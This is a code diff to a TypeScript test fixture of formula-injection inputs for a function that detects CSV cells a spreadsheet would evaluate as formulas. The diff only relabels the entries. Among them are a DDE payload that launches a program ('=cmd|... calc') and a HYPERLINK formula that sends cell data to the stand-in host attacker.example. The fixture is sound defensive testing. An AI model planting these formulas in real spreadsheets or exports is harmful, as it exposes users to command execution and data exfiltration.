@@ -4,15 +4,15 @@ import { type AttackTable, eachOf } from './attack.ts';
 
 const FORMULAS: [string, string][] = [
   ['a formula', '=1+1'],
-  ['a plus', '+1+1'],
-  ['a minus', '-1+1'],
+  ['a plus sign', '+1+1'],
+  ['a minus sign', '-1+1'],
   ['an at sign', '@SUM(1,1)'],
   ['a tab before a formula', '\t=1+1'],
   ['a carriage return before a formula', '\r=1+1'],
   ['a line feed before a formula', '\n=1+1'],
-  ['a formula of full width', '＝1+1'],
-  ['a program to start', `=cmd|' /C calc'!A0`],
-  ['a link that takes data along', '=HYPERLINK("https://attacker.example/?"&A1,"look")'],
+  ['a full-width formula', '＝1+1'],
+  ['a program call', `=cmd|' /C calc'!A0`],
+  ['a link with data in its URL', '=HYPERLINK("https://attacker.example/?"&A1,"look")'],
 ];
 
 /** Returns the CSV cells that a spreadsheet would evaluate as formulas. Plain numbers are not formulas. */
